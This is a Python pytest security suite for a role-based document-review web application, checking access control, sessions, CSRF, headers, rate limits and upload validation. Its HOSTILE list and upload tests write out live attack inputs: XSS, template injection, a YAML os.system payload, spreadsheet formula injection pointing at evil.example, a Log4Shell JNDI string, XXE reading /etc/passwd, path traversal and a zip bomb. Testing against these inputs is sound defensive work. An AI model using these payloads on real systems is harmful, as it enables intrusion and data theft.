"""The desk is safe by default: every way is guarded, every form is the user's own, and what is typed or uploaded does nothing."""

from __future__ import annotations

import asyncio
import inspect
import io
import json
import re
import stat
import zipfile
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from starlette.routing import Route

from builder.desk.accounts import AccountProblem
from builder.desk.application import LOGINS, application
from builder.desk.routes import WAYS
from builder.desk.sessions import IDLE, LONGEST
from builder.desk.web import ANYBODY, POLICY, Way
from builder.schema.desk import ROLES
from builder.source import parse
from tests.desk.office import PASSWORD, Browser, Office, open_office, typed, version

ROOT = Path(__file__).parent.parent.parent
PEOPLE = {"department": "wang", "editor": "li", "publisher": "zhao"}


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Office:
    """Give a desk with one draft of one department, on which nothing is stored by the tests that share it."""
    office = open_office(tmp_path_factory.mktemp("desk") / "office")
    office.browser("wang").post("/cases/new", typed())
    return office


@pytest.fixture
def office(tmp_path: Path) -> Office:
    return open_office(tmp_path / "office")


def log_in(browser: Browser, name: str, password: str) -> object:
    asked = re.search(r'name="asked" value="([^"]*)"', browser.client.get("/login").text)
    assert asked is not None
    return browser.client.post("/login", data={"name": name, "password": password, "asked": asked[1]})


def ways(office: Office) -> list[Way]:
    """Give the ways behind all routes of the application; a route that does not say who may go it fails here."""
    found = []
    for route in application(office.desk).routes:
        assert isinstance(route, Route), route
        assert isinstance(getattr(route, "way", None), Way), f"{route.path} declares no roles"
        found.append(route.way)  # type: ignore[attr-defined]
    return found


def address_of(way: Way) -> str:
    return way.path.format(id="she-bei-cai-gou-yi-ci-ban", number="0", part="clauses-01-scope", name="desk.css")


# --- who may go where ------------------------------------------------------------------------------------------------


def test_every_route_is_open_to_exactly_the_roles_it_declares(shared: Office) -> None:
    for way in ways(shared):
        assert way.roles == ANYBODY or (way.roles and way.roles <= set(ROLES)), way.path
        for role, user in PEOPLE.items():
            browser = shared.browser(user)
            # The token is wrong, so that nothing is done; who may not go there is told so before the token is looked at.
            answer = browser.client.request(way.method, address_of(way), data={"csrf": "wrong"} if way.method == "POST" else None)
            if way.roles == ANYBODY:
                assert answer.status_code in (200, 303, 403, 404), (way.path, role, answer.status_code)
            elif role not in way.roles:
                assert answer.status_code == 403 and "您的角色不能" in answer.text, (way.path, role, answer.status_code)
            elif way.method == "POST":
                assert answer.status_code == 403 and "页面已过期" in answer.text, (way.path, role, answer.status_code)
            else:
                assert answer.status_code in (200, 303, 404, 409), (way.path, role, answer.status_code)


def test_nobody_goes_anywhere_without_logging_in(shared: Office) -> None:
    nobody = shared.browser()
    for way in ways(shared):
        if way.roles != ANYBODY:
            answer = nobody.client.request(way.method, address_of(way), data={"title": "x"} if way.method == "POST" else None)
            assert (answer.status_code, answer.headers.get("location")) in ((303, "/login"), (401, None)), way.path
    assert {way.path for way in ways(shared) if way.roles == ANYBODY} == {"/static/{name}", "/portal/{name}", "/login"}


def test_a_department_reaches_only_its_own_submissions(shared: Office) -> None:
    stranger, own = shared.browser("wu"), shared.browser("zhou")
    assert own.get("/cases/she-bei-cai-gou-yi-ci-ban").status_code == 200
    checked = 0
    for way in ways(shared):
        if "department" in way.roles and "{id}" in way.path:
            assert way.own, f"{way.path} does not ask whose it is"
            stranger.get("/account")
            answer = stranger.client.request(way.method, address_of(way), data={"csrf": stranger.csrf} if way.method == "POST" else None)
            assert answer.status_code == 404 and "设备采购" not in answer.text, way.path
            checked += 1
    assert checked > 8
    assert "设备采购" not in stranger.get("/cases").text


def test_an_office_sees_nothing_before_it_is_handed_in(office: Office) -> None:
    browser, editor = office.browser("wang"), office.browser("li")
    address = browser.post("/cases/new", typed()).headers["location"]
    browser.post(f"{address}/papers", files={"file": ("a.pdf", b"%PDF-1.7\n%%EOF\n")})
    id_ = address.rpartition("/")[2]
    for place in (f"/review/{id_}", f"{address}/preview", f"{address}/papers/0"):
        assert editor.get(place).status_code == 404, place
    assert "设备采购" not in editor.get("/review").text
    browser.post(address, typed() | {"version": version(browser.get(address).text), "then": "submit"})
    editor.post(f"/review/{id_}", {"version": version(editor.get(f"/review/{id_}").text), "action": "returned", "comment": "请补充"})
    browser.post(address, typed() | {"version": version(browser.get(address).text), "results": "还没有写完的话"})
    assert "还没有写完的话" in browser.get(address).text
    for place in (f"/review/{id_}", f"{address}/preview"):
        assert "还没有写完的话" not in editor.get(place).text and editor.get(place).status_code == 200


def test_a_case_without_a_record_belongs_to_no_department(office: Office) -> None:
    (office.root / "cases" / "by-hand.yaml").write_text("id: by-hand\ntitle: 手工\n", encoding="utf-8")
    assert office.browser("wang").get("/cases/by-hand").status_code == 404
    assert office.browser("li").get("/review/by-hand").status_code == 200


@pytest.mark.parametrize("name", ["..%2f..%2fetc%2fpasswd", "%2e%2e", "a%00b", "users", "UPPER", "a/../b", "alpha%2F..%2F..", "a" * 300])
def test_no_address_becomes_a_path(shared: Office, name: str) -> None:
    for user, place in (
        ("wang", "/cases/{}"), ("wang", "/cases/{}/preview"), ("li", "/review/{}"), ("li", "/standards/{}"), ("li", "/standards/alpha/{}"),
        ("zhao", "/stages/{}"), ("zhao", "/stages/{}/papers"), ("zhao", "/stages/alpha/papers/{}"), ("zhao", "/stages/{}/bundle"),
        ("zhao", "/stages/alpha?to={}"), ("li", "/standards/{}/word"), ("wang", "/cases/she-bei-cai-gou-yi-ci-ban/papers/{}"),
        ("zhao", "/drafts/{}"), ("zhao", "/builds/{}"), ("wang", "/static/{}"), ("wang", "/portal/{}"),
    ):  # fmt: skip
        answer = shared.browser(user).get(place.format(name))
        assert answer.status_code in ((200,) if "?" in place else (303, 403, 404)), (place, name)
        assert "argon2" not in answer.text and "root:" not in answer.text


# --- logging in ------------------------------------------------------------------------------------------------------


def test_a_login_opens_a_session_under_a_new_cookie(office: Office) -> None:
    browser = office.browser()
    browser.client.cookies.set("zhunsheng-desk", "planted-by-somebody-else")
    answer = log_in(browser, "wang", PASSWORD)
    cookie = next(value for value in answer.headers.get_list("set-cookie") if value.startswith("zhunsheng-desk="))
    assert "HttpOnly" in cookie and "samesite=strict" in cookie.lower() and "planted" not in cookie
    fixed = office.browser()
    fixed.client.cookies.set("zhunsheng-desk", "planted-by-somebody-else")
    assert fixed.get("/cases").headers["location"] == "/login"
    assert browser.client.get("/cases").status_code == 200


def test_a_session_ends_when_it_is_closed_or_old_or_its_user_changes(office: Office) -> None:
    browser = office.browser("wang")
    kept = browser.client.cookies["zhunsheng-desk"]
    browser.post("/logout")
    browser.client.cookies.set("zhunsheng-desk", kept)
    assert browser.get("/cases").status_code == 303
    idle = office.browser("wang")
    office.clock.now += IDLE + 1
    assert idle.get("/cases").status_code == 303
    busy = office.browser("wang")
    for _ in range(int(LONGEST / IDLE) + 1):
        office.clock.now += IDLE - 1
        last = busy.get("/cases").status_code
    assert last == 303
    changed = office.browser("wang")
    office.desk.accounts.put("wang", "department", "another horse 22", unit="某市市级部门乙")
    assert changed.get("/cases").status_code == 303
    gone = office.browser("wang")
    office.desk.accounts.remove("wang")
    assert gone.get("/cases").status_code == 303


def test_guessing_passwords_is_slowed_down(office: Office) -> None:
    for _ in range(LOGINS[0]):
        assert log_in(office.browser(), "wang", "wrong password").status_code == 401
    assert log_in(office.browser(), "wang", PASSWORD).status_code == 429
    assert log_in(office.browser(), "nobody", "x").status_code == 429
    office.clock.now += LOGINS[1] + 1
    assert log_in(office.browser(), "wang", PASSWORD).status_code == 303
    assert "wrong password" not in office.audit() and PASSWORD not in office.audit()


def test_a_login_form_of_another_page_is_not_taken(shared: Office) -> None:
    answer = shared.browser().client.post("/login", data={"name": "wang", "password": PASSWORD, "asked": "x"})
    assert answer.status_code == 403


def test_what_was_typed_when_a_session_ended_is_given_back(office: Office) -> None:
    browser = office.browser("wang")
    browser.get("/cases/new")
    office.clock.now += IDLE + 1
    answer = browser.post("/cases/new", typed() | {"abstract": "写了很久的摘要<b>"})
    assert answer.status_code == 401 and "写了很久的摘要&lt;b&gt;" in answer.text


def test_weak_passwords_and_bad_names_are_refused(office: Office) -> None:
    for name, password in (("wang", "short"), ("wang", "aaaaaaaaaaaaa"), ("wang", "wang-wang-123"), ("Wang Li", PASSWORD), ("../x", PASSWORD)):
        with pytest.raises(ValueError, match=r"密码|用户名"):
            office.desk.accounts.put(name, "editor", password)


# --- forms, headers, files that must not be read ---------------------------------------------------------------------


def test_a_form_from_elsewhere_is_not_taken(shared: Office) -> None:
    browser = shared.browser("wang")
    browser.get("/cases/new")
    for headers in ({"origin": "http://evil.example"}, {"origin": "null"}, {"sec-fetch-site": "cross-site"}):
        assert browser.post("/cases/new", typed(), headers=headers).status_code == 403
    other = shared.browser("zhou")
    other.get("/cases/new")
    assert browser.client.post("/cases/new", data={**typed(), "csrf": other.csrf}).status_code == 403
    assert browser.client.post("/cases/new", json={"title": "x"}).status_code in (400, 403, 415)


def test_a_foreign_name_of_the_host_is_refused(shared: Office) -> None:
    assert shared.browser("wang").client.get("/cases", headers={"host": "evil.example"}).status_code == 421


def test_every_page_carries_the_headers_that_keep_it_safe(shared: Office) -> None:
    browser = shared.browser("wang")
    for address in ("/login", "/cases", "/cases/new", "/cases/nothing", "/nowhere", "/static/desk.js"):
        headers = browser.get(address).headers
        assert headers["content-security-policy"] == POLICY, address
    headers = browser.get("/cases").headers
    assert headers["x-content-type-options"] == "nosniff" and headers["cache-control"] == "no-store"
    assert "unsafe" not in POLICY and "frame-ancestors 'none'" in POLICY
    for template in (ROOT / "builder" / "desk" / "templates").glob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert re.search(r"<script(?![^>]*src=)|<style|\son[a-z]+=|\sstyle=|\|\s*safe|https?://", text) is None, template.name


def test_every_answer_of_every_route_carries_the_headers_and_leads_nowhere_else(shared: Office) -> None:
    """For every route and role: no answer is kept by a cache, sniffed, framed by others or without a policy, and no redirect leaves the desk."""
    for way in ways(shared):
        for user in ("", *PEOPLE.values()):
            browser = shared.browser(user)
            answer = browser.client.request(way.method, address_of(way), data={"csrf": "wrong"} if way.method == "POST" else None)
            headers, told = answer.headers, (way.path, user)
            assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "same-origin", told
            assert headers["cache-control"] == (
                "max-age=3600" if way.path in ("/static/{name}", "/portal/{name}") and answer.status_code == 200 else "no-store"
            ), told
            policy = headers["content-security-policy"]
            assert "default-src 'none'" in policy and ("frame-ancestors" in policy or "attachment" in headers["content-disposition"]), told
            assert "script-src 'self'" in policy or "script-src" not in policy, told
            assert re.fullmatch(r"/(?!/).*", headers.get("location", "/")), told
    for answer in (shared.browser("wang").get("/nowhere"), shared.browser("wang").client.put("/cases")):
        assert answer.headers["x-content-type-options"] == "nosniff" and answer.headers["cache-control"] == "no-store"


def test_no_redirect_is_made_from_the_name_of_a_host(shared: Office) -> None:
    browser = shared.browser("wang")
    for address in ("/cases/", "/login/", "//evil.example/cases", "/cases//", "/%2f%2fevil.example"):
        answer = browser.client.get(f"http://127.0.0.1{address}", headers={"host": "evil.example"})
        assert answer.status_code in (404, 421) and "location" not in answer.headers, address
    assert browser.client.get("/cases", headers={"x-forwarded-host": "evil.example"}).status_code == 200


def test_a_form_with_too_many_fields_is_not_read(shared: Office) -> None:
    browser = shared.browser("wang")
    browser.get("/cases/new")
    body = "&".join(f"x{number}=1" for number in range(5000))
    kind = {"content-type": "application/x-www-form-urlencoded"}
    assert browser.client.post("/cases/new", content=f"csrf={browser.csrf}&{body}", headers=kind).status_code == 400
    twice = browser.client.post("/cases/new/check", content=f"csrf=wrong&csrf={browser.csrf}&title=x", headers=kind)
    assert twice.status_code == 200


def test_a_form_that_never_arrives_is_given_up(office: Office) -> None:
    """Somebody who sends a form byte by byte holds no thread, and is told after a while."""
    office.desk.patience = 0.05
    sent: list[dict[str, Any]] = []

    async def run() -> None:
        async def receive() -> dict[str, Any]:
            await asyncio.sleep(5)
            return {"type": "http.disconnect"}

        async def send(message: Any) -> None:
            sent.append(message)

        headers = [(b"host", b"127.0.0.1"), (b"content-type", b"application/x-www-form-urlencoded"), (b"content-length", b"1000")]
        scope = {"type": "http", "method": "POST", "path": "/cases/new", "raw_path": b"/cases/new", "query_string": b"", "headers": headers}
        await application(office.desk)({**scope, "http_version": "1.1", "scheme": "http", "server": ("127.0.0.1", 80), "client": None}, receive, send)

    asyncio.run(run())
    assert sent[0]["status"] == 408


def test_everything_that_changes_or_hands_out_something_is_in_the_log() -> None:
    """Every endpoint behind a POST that stores something, and every one that hands out a paper of the office, notes it."""
    silent = {"check", "preview", "check_chapter", "preview_chapter", "login"}
    for way in WAYS:
        source = inspect.getsource(way.endpoint)
        if way.method == "POST" and way.endpoint.__name__ not in silent:
            assert "visit.note(" in source or "desk.audit.note(" in source or "pass_stage" in source, way.path


def test_hostile_formulas_break_nothing(office: Office) -> None:
    editor = office.browser("li")
    path = office.root / "standards" / "alpha" / "clauses" / "04-application.yaml"
    path.write_text("id: application\ntitle: 申请\ncontent: [公式见下：, {formula: {tex: 'a = b'}}]\n", encoding="utf-8")
    office.clock.now += 10
    address = "/standards/alpha/clauses-04-application"
    page = editor.get(address).text
    name = re.findall(r'data-formula="(w\.\d+)"', page)[0]
    for tex in (
        "{" * 3000,
        r"\frac{" * 400,
        r"\text{<script>alert(1)</script>}",
        r"\href{javascript:alert(1)}{x}",
        "x^" * 2000,
        "\\begin{matrix}" * 200,
        "&<>\x00",
    ):
        answer = editor.post(f"{address}/check", {"version": version(page), name: tex})
        assert answer.status_code == 200, tex[:40]
        for words in answer.json()["formulas"].values():
            assert "<script" not in words and "javascript:" not in words
            assert not words or etree.fromstring(words.encode()).tag.endswith("math")


def test_users_and_log_are_for_their_owner_only_and_stay_out_of_git(office: Office) -> None:
    office.browser("wang").post("/logout")
    for name in ("users.yaml", "audit.log"):
        assert stat.S_IMODE((office.root / "desk" / name).stat().st_mode) == 0o600
    assert (office.root / "desk" / ".gitignore").read_text() == "/users.yaml\n/audit.log\n"
    (office.root / "desk" / "users.yaml").chmod(0o644)
    office.desk.accounts._mark = None
    with pytest.raises(AccountProblem, match="chmod 600"):
        office.desk.accounts.all()


def test_the_log_tells_who_did_what_and_is_only_added_to(office: Office) -> None:
    browser = office.browser("wang")
    before = office.audit() if (office.root / "desk" / "audit.log").exists() else ""
    browser.post("/cases/new", typed() | {"then": "submit"})
    office.browser("wu").get("/review")
    after = office.audit()
    assert after.startswith(before)
    lines = [json.loads(line) for line in after.splitlines()]
    assert [(line["user"], line["action"], line["outcome"]) for line in lines] == [
        ("wang", "save", "done"),
        ("wang", "submit", "done"),
        ("wu", "request", "forbidden"),
    ]


# --- hostile words and files -----------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}",
    "title: 注入\nstatus: selected\nsecrecy_review: passed",
    "!!python/object/apply:os.system ['id']",
    "*alias &anchor <<: {a: b} # 注释 - : | >",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202ereversed\u2066\x00\x1b[31m\ufeff\u2028line",
    "${jndi:ldap://evil.example/a} ../../etc/passwd",
]


def test_hostile_words_stand_where_they_were_typed_and_do_nothing(office: Office) -> None:
    browser, editor = office.browser("wang"), office.browser("li")
    for number, words in enumerate(HOSTILE):
        form = typed() | {"title": f"第{number}个 {words}", "abstract": words * 3, "background": words, "practice.0.title": words, "matters": words}
        answer = browser.post("/cases/new", form | {"status": "selected", "secrecy_review": "passed", "id": "../x"})
        assert answer.status_code == 303, (words, answer.text[:300])
        address = answer.headers["location"]
        file = next((office.root / "desk" / "drafts").glob(f"{address.rpartition('/')[2]}.yaml"))
        source = parse(file.read_bytes(), file.name)
        assert source.findings == [] and not {"status", "secrecy_review"} & set(source.data)
        plain = re.sub("[\u202e\u2066\x00\x1b\ufeff]", "", words).replace("\u2028", "\n")
        assert " ".join(source.data["title"].split()) == " ".join(f"第{number}个 {plain}".split())
        for page in (browser.get(address).text, browser.get(f"{address}/preview").text, browser.get("/cases").text):
            assert "<script>alert" not in page and "<img src=x" not in page
        assert browser.get(address).status_code == 200 and browser.get(f"{address}/preview").status_code == 200
    assert editor.get("/review").status_code == 200


def test_hostile_words_in_a_clause_stay_words(office: Office) -> None:
    editor = office.browser("li")
    key = re.findall(r'/standards/alpha/(clauses-[\w-]+)"', editor.get("/standards/alpha").text)[0]
    path = office.root / "standards" / "alpha" / "clauses" / f"{key.partition('-')[2]}.yaml"
    for words in HOSTILE:
        page = editor.get(f"/standards/alpha/{key}").text
        name = re.findall(r'<textarea id="[^"]*" name="(w\.\d+)"', page)[0]
        answer = editor.post(f"/standards/alpha/{key}", {"version": version(page), name: words})
        assert answer.status_code == 303, words
        assert "<script>alert" not in editor.get("/standards/alpha/preview").text
        word = editor.get("/standards/alpha/word")
        assert word.status_code == 200 and zipfile.ZipFile(io.BytesIO(word.content)).testzip() is None
    assert parse(path.read_bytes(), path.name).findings == []


def test_hostile_and_oversized_uploads_are_refused(office: Office) -> None:
    browser = office.browser("wang")
    address = browser.post("/cases/new", typed()).headers["location"]
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b" " * 60_000_000)
    entity = io.BytesIO()
    with zipfile.ZipFile(entity, "w") as archive:
        archive.writestr("[Content_Types].xml", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><Types>&a;</Types>')
    for name, data in (
        ("a.docx", bomb.getvalue()), ("a.docx", entity.getvalue()), ("a.html", b"<script>"), ("a.svg", b"<svg/>"), ("a.png", b"GIF89a"),
        ("a.pdf.exe", b"MZ"), ("a.pdf", b"%PDF-1.4 /JavaScript (app.alert(1)) %%EOF"), ("a", b"x"),
    ):  # fmt: skip
        browser.post(f"{address}/papers", files={"file": (name, data)})
        assert "没有上传" in browser.get(address).text, name
    assert list((office.root / "cases").rglob("*.*")) == []
    large = browser.post(f"{address}/papers", files={"file": ("a.pdf", bytes(22 * 1024 * 1024))})
    assert large.status_code == 413
    assert browser.post(address, {"title": "x" * (3 * 1024 * 1024)}).status_code == 413
    assert browser.client.post(address, content=b"\xff" * 1000, headers={"content-type": "multipart/form-data; boundary=x"}).status_code in (400, 403)


def test_a_user_who_asks_too_often_is_asked_to_wait(office: Office) -> None:
    browser = office.browser("zhao")
    office.desk.requests._most = 5
    answers = [browser.get("/stages").status_code for _ in range(7)]
    assert answers == [200] * 5 + [429] * 2
    office.clock.now += 61
    assert browser.get("/stages").status_code == 200
